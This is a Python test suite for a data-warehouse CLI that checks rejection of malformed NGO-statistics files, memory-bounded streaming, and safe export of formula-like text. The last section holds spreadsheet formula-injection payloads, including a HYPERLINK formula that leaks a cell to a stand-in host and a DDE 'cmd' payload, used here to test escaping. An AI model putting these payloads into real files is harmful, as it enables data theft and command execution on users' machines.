"""Bad input, pulled as a user pulls a file: `ngobrief pull NEW-ID --file BAD --publisher P --title T`
against a warehouse built from the bundled data. Every case exits 2 with one line naming the file, the
row, the column and the value at fault (where the fault has them: an empty or damaged file has no
row), and leaves every table of the warehouse and every file of data/ exactly as it was.

The bad files are the bundled snapshots (or, for the national register, the SYNTHETIC generator's
output) with one thing broken; `test_the_unbroken_base_files_pull_cleanly` proves that the unbroken
versions load, so each case fails for the one thing it breaks."""

from __future__ import annotations

import csv
import datetime as dt
import importlib.util
import io
import re
import sys
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

import pytest

from ngobrief import config, editions

SNAPSHOTS = config.DATA_DIR / "snapshots"
NEXT_YEAR = dt.date.today().year + 1


def _read(path, sep=",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline=""), delimiter=sep))


def _write(rows: list[list[str]], sep=",", encoding="utf-8", quoting=csv.QUOTE_MINIMAL) -> bytes:
    if sep == "\t":  # tab-separated files are not quoted
        return "".join("\t".join(r) + "\n" for r in rows).encode(encoding)
    buf = io.StringIO(newline="")
    csv.writer(buf, lineterminator="\n", quoting=quoting).writerows(rows)
    return buf.getvalue().encode(encoding)


# --- the unbroken base files, from the bundled snapshots -----------------------------------------

_OBS = _read(SNAPSHOTS / "observations.csv")
_PCT = next(r for r in _OBS if r[3] == "published_share_pct")
LONG = [_OBS[0], *_OBS[1:4], _PCT]                 # header (row 1), three counts (rows 2-4), a percentage (row 5)
SURVEY = _read(SNAPSHOTS / "survey_priorities.csv")[:4]
RICF = _read(SNAPSHOTS / "ricf_2013_foundations.tsv", sep="\t")[:4]


def _wide() -> list[list[str]]:
    """Two years of year-end registered counts as a wide table with Chinese headers."""
    types = {"all": "社会组织", "social_association": "社会团体", "foundation": "基金会"}
    figures = {(r[0], r[4]): r[6] for r in _OBS[1:] if r[1] == "year_end" and r[3] == "registered"}
    years = sorted({y for y, _ in figures if all((y, t) in figures for t in types)})[:2]
    return [["年份", *types.values()]] + [[y, *(figures[y, t] for t in types)] for y in years]


WIDE = _wide()


def _register() -> list[list[str]]:
    spec = importlib.util.spec_from_file_location("synthetic_org_register",
                                                  config.ROOT / "bench" / "synthetic_org_register.py")
    module = importlib.util.module_from_spec(spec)
    sys.modules[spec.name] = module
    spec.loader.exec_module(module)
    return module


def _register_rows(tmp_path, n=4) -> list[list[str]]:
    reg = _register().generate(n, seed=9, out_dir=tmp_path, defect_rate=0)
    text = "".join(ln for ln in reg.path.read_text(encoding="utf-8").splitlines(True) if not ln.startswith("#"))
    return list(csv.reader(io.StringIO(text, newline="")))


BASES = {  # layout: (rows, separator, file name, extra pull options)
    "long_csv": (LONG, ",", "bad.csv", ()),
    "wide_table": (WIDE, ",", "bad.csv", ()),
    "survey_csv": (SURVEY, ",", "bad.csv", ()),
    "ricf_tsv": (RICF, "\t", "bad.tsv", ()),
    "org_register": (None, ",", "bad-register.csv", ("--parser", "org_register")),
}


def edit(rows, row: int, column: str, text: str) -> list[list[str]]:
    """A copy of `rows` with the cell at spreadsheet row `row` (header = 1) under `column` set to `text`."""
    out = [list(r) for r in rows]
    out[row - 1][out[0].index(column)] = text
    return out


def drop_column(rows, column: str) -> list[list[str]]:
    j = rows[0].index(column)
    return [r[:j] + r[j + 1:] for r in rows]


def rename_column(rows, column: str, new: str) -> list[list[str]]:
    return [[new if c == column else c for c in rows[0]], *rows[1:]]


def add_column(rows, header: str, cell: str) -> list[list[str]]:
    return [rows[0] + [header], *(r + [cell] for r in rows[1:])]


def _xlsx(rows: list[list[object]]) -> bytes:
    from openpyxl import Workbook

    wb = Workbook()
    for r in rows:
        wb.active.append(r)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def _long_xlsx_negative() -> bytes:
    """The long layout as a workbook whose row 3 prints its figure as the number -5."""
    rows = [list(r) for r in LONG]
    j = rows[0].index("as_published")
    rows[2][j], rows[2][rows[0].index("value")] = -5, None
    return _xlsx(rows)


def _padded_long_with_nul() -> tuple[bytes, int]:
    """The long layout with enough rows that its first NUL byte comes after the first 4 KB."""
    rows = [LONG[0]]
    while len(_write(rows)) < 5000:
        rows += LONG[1:4]
    rows[-1] = edit(rows, len(rows), "note", "bad\x00cell")[-1]
    return _write(rows), len(rows)


def _truncated_long() -> bytes:
    """The long layout cut off inside a quoted note (a download that stopped half-way)."""
    whole = _write(edit(LONG, 3, "note", "figure as printed, reprinted in the yearbook"))
    return whole[:whole.index(b"reprinted")]


def _mixed(rows, row: int, column: str, text: str, sep=",") -> bytes:
    """UTF-8, except row `row`, which is GB18030 and has `text` under `column`."""
    rows = edit(rows, row, column, text)
    lines = _write(rows, sep).decode("utf-8").splitlines(True)
    return b"".join(ln.encode("gb18030" if i == row - 1 else "utf-8") for i, ln in enumerate(lines))


# --- the cases -----------------------------------------------------------------------------------

@dataclass(frozen=True)
class Case:
    layout: str
    content: Callable[[list[list[str]]], bytes]   # the base rows -> the bad file's bytes
    row: int | None         # what the error must name (None: the fault has none, see the case)
    column: str | None
    value: str | None
    says: str               # and the words that say what is wrong
    name: str | None = None  # the file name, when not the layout's
    options: tuple = ()


NUL_FILE, NUL_ROW = _padded_long_with_nul()
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x01\x00" + bytes(range(256)) * 8

CASES = {
    # encodings
    "long: GB18030 file declared --encoding utf-8": Case(
        "long_csv", lambda b: _write(edit(b, 3, "note", "民政部公报"), encoding="gb18030"),
        3, "note", "民政部公报", "cannot be decoded as utf-8", options=("--encoding", "utf-8")),
    "long: UTF-8 file with one GB18030 row (mixed encodings)": Case(
        "long_csv", lambda b: _mixed(edit(b, 2, "note", "统计公报"), 4, "note", "民政部公报"),
        4, "note", "民政部公报", "mixed encodings"),
    "register: UTF-8 register with one GB18030 row": Case(
        "org_register", lambda b: _mixed(b, 3, "社会组织名称", "混合编码协会"),
        3, "社会组织名称", "混合编码协会", "mixed encodings"),
    "long: bytes that are neither UTF-8 nor GB18030": Case(
        "long_csv", lambda b: _write(b).replace(b"nbs-yearbook-2008,\n", b"nbs-yearbook-2008,caf\x80\n", 1),
        2, "note", "caf\ufffd", "neither UTF-8 nor GB18030"),
    # truncated, empty, header only
    "long: file cut off inside a quoted cell": Case(
        "long_csv", lambda b: _truncated_long(), 3, "note", "figure as printed, ", "ends inside a quoted cell"),
    "long: empty file (no row to name)": Case("long_csv", lambda b: b"", None, None, None, "the file is empty"),
    "long: only blank lines (no row to name)": Case("long_csv", lambda b: b"\n \n\r\n", None, None, None, "empty"),
    "long: header only": Case("long_csv", lambda b: _write(b[:1]), 1, None, None, "header but no figures"),
    "survey: header only": Case("survey_csv", lambda b: _write(b[:1]), 1, None, None, "header but no priorities"),
    "register: header only": Case("org_register", lambda b: _write(b[:1]), 1, None, None, "header but no organizations"),
    # columns
    "long: a column missing (no cell to show)": Case(
        "long_csv", lambda b: _write(drop_column(b, "unit")), 1, "unit", None, "missing column"),
    "long: a renamed column": Case(
        "long_csv", lambda b: _write(rename_column(b, "org_type", "组织类型")), 1, "org_type", "组织类型", "renamed"),
    "long: an extra column": Case(
        "long_csv", lambda b: _write(add_column(b, "checked_by", "me")), 1, "checked_by", "checked_by",
        "does not have"),
    "survey: an extra column": Case(
        "survey_csv", lambda b: _write(add_column(b, "weight", "1")), 1, "weight", "weight", "does not have"),
    "wide: an unknown (extra) column": Case(
        "wide_table", lambda b: _write(add_column(b, "社会组织增长率", "5%")), 1, "社会组织增长率", "社会组织增长率",
        "unknown column"),
    # (an optional column renamed is schema drift, not an error: tests/test_register_contracts.py)
    "ricf: a required column renamed": Case(
        "ricf_tsv", lambda b: _write(rename_column(b, "ba_rdt", "ba_rdt2"), "\t"), 1, "ba_rdt", "ba_rdt2",
        "renamed"),
    "register: a renamed column": Case(
        "org_register", lambda b: _write(rename_column(b, "所在省份", "省份")), 1, "所在省份", "省份", "renamed"),
    # values
    "long: a value that is not a number": Case(
        "long_csv", lambda b: _write(edit(b, 3, "value", "12x")), 3, "value", "12x", "not a number"),
    "long: Chinese numerals": Case(
        "long_csv", lambda b: _write(edit(edit(b, 3, "value", ""), 3, "as_published", "二十一万")),
        3, "as_published", "二十一万", "cannot be read"),
    "wide: Chinese numerals": Case(
        "wide_table", lambda b: _write(edit(b, 3, "基金会", "二十一万")), 3, "基金会", "二十一万", "not a published figure"),
    "ricf: an endowment in Chinese numerals": Case(
        "ricf_tsv", lambda b: _write(edit(b, 2, "ba_fnd", "二十一万元"), "\t"), 2, "ba_fnd", "二十一万元",
        "an endowment must be an amount"),
    "ricf: a count in Chinese numerals": Case(
        "ricf_tsv", lambda b: _write(edit(b, 3, "ba_nv", "二十"), "\t"), 3, "ba_nv", "二十", "whole number"),
    "ricf: a count in superscript digits": Case(
        "ricf_tsv", lambda b: _write(edit(b, 3, "ba_nfe", "²"), "\t"), 3, "ba_nfe", "²", "whole number"),
    "long: a negative count": Case(
        "long_csv", lambda b: _write(edit(edit(b, 4, "value", ""), 4, "as_published", "-5")),
        4, "as_published", "-5", "negative"),
    "long (XLSX): a negative count": Case(
        "long_csv", lambda b: _long_xlsx_negative(), 3, "as_published", "-5", "negative", name="bad.xlsx"),
    "wide: a negative count": Case(
        "wide_table", lambda b: _write(edit(b, 2, "社会团体", "-191946")), 2, "社会团体", "-191946", "negative"),
    "ricf: a negative count": Case(
        "ricf_tsv", lambda b: _write(edit(b, 4, "ba_nfe", "-3"), "\t"), 4, "ba_nfe", "-3", "whole number"),
    "survey: a negative percentage": Case(
        "survey_csv", lambda b: _write(edit(b, 2, "support_pct", "-3")), 2, "support_pct", "-3", "within 0-100"),
    "long: a year in the future": Case(
        "long_csv", lambda b: _write(edit(b, 3, "year", str(NEXT_YEAR))), 3, "year", str(NEXT_YEAR), "future"),
    "wide: a year in the future": Case(
        "wide_table", lambda b: _write(edit(b, 3, "年份", f"{NEXT_YEAR}年")), 3, "年份", f"{NEXT_YEAR}年", "future"),
    "ricf: a record year in the future": Case(
        "ricf_tsv", lambda b: _write(edit(b, 2, "ba_rdt", str(NEXT_YEAR)), "\t"), 2, "ba_rdt", str(NEXT_YEAR),
        "future"),
    "register: a founding date in the future": Case(
        "org_register", lambda b: _write(edit(b, 4, "成立登记日期", f"{NEXT_YEAR}-01-02")), 4, "founded_on",
        f"{NEXT_YEAR}-01-02", "future"),
    "long: a percentage above 100": Case(
        "long_csv", lambda b: _write(edit(edit(b, 5, "value", ""), 5, "as_published", "112.5%")),
        5, "as_published", "112.5%", "above 100"),
    "survey: a percentage above 100": Case(
        "survey_csv", lambda b: _write(edit(b, 4, "support_pct", "174.19")), 4, "support_pct", "174.19",
        "within 0-100"),
    "survey: a rank that is not a number": Case(
        "survey_csv", lambda b: _write(edit(b, 3, "rank", "second")), 3, "rank", "second", "whole number"),
    "register: a flag that is neither 是 nor 否": Case(
        "org_register", lambda b: _write(edit(b, 2, "国际交流合作", "也许")), 2, "engaged_international", "也许", "是 or 否"),
    # repeated keys
    "long: one figure printed twice with two values": Case(
        "long_csv", lambda b: _write([*b, edit(edit(b, 2, "value", ""), 2, "as_published", "354394")[1]]),
        6, "as_published", "354394.0", "gives '354394' where row 2 gives '354393'"),
    "ricf: one foundation listed twice with two names": Case(
        "ricf_tsv", lambda b: _write([*b, edit(b, 2, "ba_cn", "另一个名称基金会")[1]], "\t"), 5, "ba_cn",
        "另一个名称基金会", "where row 2 gives"),
    # not text, not a workbook
    "long: NUL byte after the first 4 KB": Case(
        "long_csv", lambda b: NUL_FILE, NUL_ROW, "note", "bad\x00cell", "binary content"),
    "register: NUL byte after the first 4 KB": Case(
        "org_register", lambda b: _write(b[:2] + b[1:2] * 60 + edit(b[:2], 2, "社会组织名称", "空字节\x00协会")[1:]),
        63, "社会组织名称", "空字节\x00协会", "binary content"),
    "a PNG image named .csv": Case("long_csv", lambda b: PNG, 3, "#1", None, "binary content", name="chart.csv"),
    "an XLSX that is not a zip (no row to name)": Case(
        "long_csv", lambda b: b"PK\x03\x04" + b"\x00not really a workbook" * 50, None, None, None,
        "not a readable XLSX workbook", name="bad.xlsx"),
    "an old .xls workbook (no row to name)": Case(
        "long_csv", lambda b: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504), None, None, None,
        "old-style .xls", name="bad.xls"),
}


@pytest.fixture(scope="module")
def register_base(tmp_path_factory) -> list[list[str]]:
    return _register_rows(tmp_path_factory.mktemp("register"))


def _base(layout, register_base):
    rows = BASES[layout][0]
    return register_base if rows is None else rows


def pull(run_cli, wh, path, layout, *, name="bad-input", options=()):
    return run_cli("pull", name, "--file", path, "--publisher", "Reliability test", "--title", "a bad file",
                   *BASES[layout][3], *options, "--warehouse", wh)


@pytest.mark.parametrize("case_id", list(CASES))
def test_bad_input_exits_2_names_file_row_column_value_and_changes_nothing(
        case_id, register_base, tmp_path, warehouse_copy, data_copy, run_cli, table_checksums, files_under):
    case = CASES[case_id]
    bad = tmp_path / "in" / (case.name or BASES[case.layout][2])
    bad.parent.mkdir()
    bad.write_bytes(case.content(_base(case.layout, register_base)))
    before = table_checksums(warehouse_copy), files_under(data_copy)

    code, out, err = pull(run_cli, warehouse_copy, bad, case.layout, options=case.options)

    assert code == 2, (out, err)
    assert err.startswith(f"error: file {bad}") and "Traceback" not in err, err
    assert len(err.strip().splitlines()) == 1, err
    assert case.says in err, err
    if case.row is not None:
        assert re.search(rf"\brow {case.row}\b", err), err
    if case.column is not None:
        assert f"column {case.column!r}" in err, err
    if case.value is not None:
        assert f"value {case.value!r}" in err, err
    assert (table_checksums(warehouse_copy), files_under(data_copy)) == before


@pytest.mark.parametrize("layout", list(BASES))
def test_the_unbroken_base_files_pull_cleanly(layout, register_base, tmp_path, warehouse_copy, data_copy, run_cli,
                                              table_checksums):
    rows, sep, name, _ = BASES[layout]
    good = tmp_path / name
    good.write_bytes(_write(_base(layout, register_base), sep))
    before = table_checksums(warehouse_copy)
    code, out, err = pull(run_cli, warehouse_copy, good, layout, name="good-input")
    assert code == 0, err
    assert re.search(r"\b[1-9]\d* rows loaded", out), out
    # a pull stages into a build copy beside the published file, which stays as it was

    assert table_checksums(editions.builds_dir(warehouse_copy) / "staged.duckdb") != before
    assert table_checksums(warehouse_copy) == before


# --- a very large file: read as a stream, in memory bounded by its size ---------------------------
# Peak memory is the child's own high-water mark (VmHWM of /proc/self/status, read as it exits: a
# forked child's getrusage maximum starts at its parent's size, pytest's). A ~30 MB file is compared
# with a ~256 KB one of the same kind, pulled the same way: the increase in peak memory per byte of
# file is what is bounded (interpreter, Polars and DuckDB cancel out). The numbers measured are in
# docs/reliability.md.

BIG, SMALL = 30 << 20, 256 << 10
_MEASURE = """import atexit, sys
OUT = sys.argv.pop(1)
def hwm():
    with open("/proc/self/status") as fh:
        kb = next(int(line.split()[1]) for line in fh if line.startswith("VmHWM:"))
    with open(OUT, "w") as out:
        out.write(str(kb))
atexit.register(hwm)
sys.argv[0] = "ngobrief"
from ngobrief.cli import main
main()
"""


def _peak_rss(tmp_path, *args) -> tuple[int, str, float]:
    """Run `ngobrief ARGS` in a child process: (exit code, stderr, its peak resident memory in MiB)."""
    import subprocess

    if not Path("/proc/self/status").exists():
        pytest.skip("needs /proc to read a process's peak memory")
    hwm = tmp_path / "hwm.txt"
    res = subprocess.run([sys.executable, "-c", _MEASURE, str(hwm), *map(str, args)], capture_output=True,
                         text=True, cwd=config.ROOT)
    return res.returncode, res.stderr, int(hwm.read_text()) / 1024


def _long_file(path, size: int) -> int:
    """The bundled long rows repeated to `size` bytes, then one row printing 二十一万: returns its row."""
    rows = [",".join(r) for r in _OBS[1:] if not any("," in c or '"' in c for c in r)]
    bad = ",".join(edit([LONG[0], LONG[1]], 2, "as_published", "二十一万")[1])
    n, written = 1, 0
    with open(path, "w", encoding="utf-8", newline="") as fh:
        fh.write(",".join(LONG[0]) + "\n")
        while written < size:
            for r in rows:
                written += fh.write(r + "\n")
                n += 1
        fh.write(bad.replace(f",{LONG[1][5]},二十一万,", ",,二十一万,") + "\n")
    return n + 1


def test_a_30_mb_long_file_is_streamed_and_its_last_bad_row_named(tmp_path, warehouse_copy, data_copy,
                                                                    table_checksums):
    before = table_checksums(warehouse_copy)
    peaks = {}
    for label, size in (("small", SMALL), ("big", BIG)):
        f = tmp_path / f"{label}.csv"
        last = _long_file(f, size)
        work = tmp_path / label
        work.mkdir()
        code, err, peaks[label] = _peak_rss(work, "pull", f"long-{label}", "--file", f, "--publisher", "P",
                                             "--title", "T", "--warehouse", warehouse_copy)
        assert code == 2, err
        assert f"file {f}, row {last}, column 'as_published', value '二十一万'" in err, err
        peaks[label + "_bytes"] = f.stat().st_size
    per_byte = (peaks["big"] - peaks["small"]) * 2**20 / (peaks["big_bytes"] - peaks["small_bytes"])
    print(f"long layout: peak {peaks['small']:.0f} MiB for {peaks['small_bytes']} bytes, {peaks['big']:.0f} MiB "
          f"for {peaks['big_bytes']} bytes: {per_byte:.1f} bytes of memory per byte of file")
    assert per_byte < 8, peaks   # whole-file Python lists of cells took 15.5
    assert table_checksums(warehouse_copy) == before


def test_a_30_mb_register_loads_in_memory_bounded_by_its_size(tmp_path, warehouse_copy, data_copy):
    gen = _register()
    peaks = {}
    for label, rows in (("small", 1600), ("big", 200_000)):
        work = tmp_path / label
        work.mkdir()
        reg = gen.generate(rows, seed=11, out_dir=work, defect_rate=0)
        code, err, peaks[label] = _peak_rss(work, "pull", f"register-{label}", "--file", reg.path, "--parser",
                                             "org_register", "--publisher", "SYNTHETIC", "--title", "T",
                                             "--warehouse", warehouse_copy)
        assert code == 0, err
        peaks[label + "_bytes"] = reg.bytes
    assert peaks["big_bytes"] > 25 << 20
    per_byte = (peaks["big"] - peaks["small"]) * 2**20 / (peaks["big_bytes"] - peaks["small_bytes"])
    print(f"register: peak {peaks['small']:.0f} MiB for {peaks['small_bytes']} bytes, {peaks['big']:.0f} MiB "
          f"for {peaks['big_bytes']} bytes: {per_byte:.1f} bytes of memory per byte of file")
    assert per_byte < 16, peaks


# --- formula-like text: kept as text in the warehouse, exported so that no spreadsheet runs it ---
# tests/test_warehouse_cli.py covers =, +, -, @ in literals of a query; here the text arrives the way
# an attacker would send it, inside a pulled file, and leading tab and carriage return are covered too.

RISKY = {  # survey column: text a spreadsheet would run as a formula or a DDE command
    "sector_en": '=HYPERLINK("http://example.invalid/?leak="&A1,"open")',
    "sector_zh": "+86 10 5555 0100",
    "support_band": "-2+3",
    "note": "@SUM(A1:A9)",
}
RISKY_RAW = {"sector_en": "\t=1+1", "note": "\r=cmd|' /C calc'!A0"}   # cells the parser trims: raw keeps them


def _risky_survey() -> bytes:
    rows = SURVEY
    for col, text in RISKY.items():
        rows = edit(rows, 2, col, text)
    for col, text in RISKY_RAW.items():
        rows = edit(rows, 3, col, text)
    return _write(rows, quoting=csv.QUOTE_ALL)   # a lone carriage return must be quoted to stay in its cell


@pytest.fixture
def risky_warehouse(tmp_path, warehouse_copy, data_copy, run_cli):
    f = tmp_path / "risky.csv"
    f.write_bytes(_risky_survey())
    code, _, err = pull(run_cli, warehouse_copy, f, "survey_csv", name="risky-survey")
    assert code == 0, err
    return editions.builds_dir(warehouse_copy) / "staged.duckdb"   # a pull stages; it never publishes


def _export(run_cli, wh, table, to):
    code, _, err = run_cli("warehouse", "export", f"SELECT * FROM {table} WHERE snapshot_id = 'risky-survey' "
                           "ORDER BY source_row", "--to", to, "--warehouse", wh)
    assert code == 0, err


def test_formula_like_text_is_stored_as_sent(risky_warehouse):
    from ngobrief import warehouse

    con = warehouse.connect(risky_warehouse, read_only=True)
    try:
        staged = con.execute("SELECT sector_en, sector_zh, support_band, note FROM staging.survey_priorities "
                             "WHERE snapshot_id = 'risky-survey' AND source_row = 2").fetchone()
        raw = con.execute("SELECT sector_en, note FROM raw.survey_priorities "
                          "WHERE snapshot_id = 'risky-survey' AND source_row = 3").fetchone()
    finally:
        con.close()
    assert staged == tuple(RISKY.values())
    assert raw == tuple(RISKY_RAW.values())


def test_formula_like_text_exported_to_csv_starts_with_an_apostrophe(risky_warehouse, tmp_path, run_cli):
    for table, row, risky in (("staging.survey_priorities", 0, RISKY), ("raw.survey_priorities", 1, RISKY_RAW)):
        to = tmp_path / f"{table}.csv"
        _export(run_cli, risky_warehouse, table, to)
        got = list(csv.DictReader(io.StringIO(to.read_bytes().decode("utf-8-sig"), newline="")))[row]
        assert {c: got[c] for c in risky} == {c: "'" + t for c, t in risky.items()}, table


def test_formula_like_text_exported_to_xlsx_is_a_text_cell_not_a_formula(risky_warehouse, tmp_path, run_cli):
    import zipfile

    from openpyxl import load_workbook

    for table, row, risky in (("staging.survey_priorities", 2, RISKY), ("raw.survey_priorities", 3, RISKY_RAW)):
        to = tmp_path / f"{table}.xlsx"
        _export(run_cli, risky_warehouse, table, to)
        with zipfile.ZipFile(to) as z:
            sheet = z.read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in sheet and "<f " not in sheet, table   # no cell holds a formula
        ws = load_workbook(to).active
        header = [c.value for c in ws[1]]
        cells = dict(zip(header, ws[row]))
        for col, text in risky.items():
            text = text.replace("\r", "\n")   # XML reads a carriage return back as a line feed
            assert (cells[col].value, cells[col].data_type, cells[col].quotePrefix) == (text, "s", True), (table, col)


def test_a_column_named_like_a_formula_is_exported_as_text(warehouse_copy, tmp_path, run_cli):
    from openpyxl import load_workbook

    query = """SELECT 'x' AS "=HYPERLINK(""http://example.invalid"")", 'y' AS "@cmd" """
    for suffix in ("csv", "xlsx"):
        to = tmp_path / f"headers.{suffix}"
        code, _, err = run_cli("warehouse", "export", query, "--to", to, "--warehouse", warehouse_copy)
        assert code == 0, err
        if suffix == "csv":
            header = next(csv.reader(io.StringIO(to.read_bytes().decode("utf-8-sig"))))
            assert header == ["'=HYPERLINK(\"http://example.invalid\")", "'@cmd"]
        else:
            cells = list(load_workbook(to).active[1])
            assert [(c.value, c.data_type) for c in cells] == [
                ('=HYPERLINK("http://example.invalid")', "s"), ("@cmd", "s")]
            assert all(c.quotePrefix for c in cells)
